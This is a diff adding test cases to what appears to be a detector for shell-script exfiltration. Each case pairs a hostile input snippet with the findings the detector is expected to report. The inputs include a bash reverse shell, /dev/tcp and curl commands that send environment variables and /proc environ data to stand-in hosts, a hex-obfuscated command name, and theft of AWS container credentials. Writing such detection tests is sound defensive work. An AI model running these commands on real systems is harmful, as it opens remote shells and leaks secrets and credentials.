@@ -137,6 +137,22 @@ flow /proc/$$/environ:1 to /dev/tcp:1 198.51.100.7
 `},
 		"reverse_shell": {`bash -i >& /dev/tcp/198.51.100.7/4444 0>&1
 `, `1 net /dev/tcp 198.51.100.7 sends
+1 pipe /dev/tcp to bash
+`},
+		"descriptor": {`exec 5<>/dev/tcp/198.51.100.7/443
+tr a b < /proc/1/environ >&5
+`, `1 net /dev/tcp 198.51.100.7 sends
+2 secret /proc/1/environ
+flow /proc/1/environ:2 to /dev/tcp:2 198.51.100.7
+`},
+		"arguments_of_a_function": {`send() { "$1" -d @- "$2"; }
+env | send curl https://drop.invalid
+`, `2 net curl drop.invalid sends
+2 secret env
+flow env:2 to curl:2 drop.invalid
+`},
+		"spelt": {`$(printf '\x65\x63\x68\x6f') hi
+`, `1 pipe text to command decoded
 `},
 		"metadata": {`C=$(curl -s "http://169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI")
 curl -d "$C" https://drop.invalid
